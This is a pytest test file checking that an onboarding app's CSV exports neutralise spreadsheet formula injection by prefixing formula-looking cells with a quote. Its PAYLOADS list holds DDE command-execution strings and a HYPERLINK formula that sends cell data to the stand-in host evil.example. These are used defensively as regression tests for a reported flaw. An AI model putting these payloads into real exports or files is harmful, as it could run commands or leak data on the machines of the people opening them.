"""Every CSV the app writes goes through one writer that turns formula-looking text into
text: what a manager typed never runs in a finance officer's spreadsheet."""

import csv
import io

import pytest

from onboarding.exports import as_csv

# The payloads of the probe that found the survey export unsafe (issue 12).
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "\t=1+1",
    "\r=1+1",
]


def read(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_text_is_written_as_text(payload):
    [[cell]] = read(as_csv([[payload]]))
    assert cell == "'" + payload


def test_numbers_and_ordinary_text_are_written_as_they_are():
    row = ["-12.50", "+358401234567", -3, 684018, "Helsinki", "a=b", "Kaupunginhallitus 12.2.2024"]
    assert read(as_csv([row])) == [[str(v) for v in row]]


def test_the_municipality_list_export_uses_the_one_writer(client_for, coordinator):
    response = client_for(coordinator).get("/municipalities/", {"search": "091", "_export": "csv"})
    assert response.content.startswith("\ufeff".encode())  # the app's UTF-8 with BOM
    header, helsinki = read(response.content)
    assert helsinki[0] == "091" and helsinki[1] == "Helsinki"
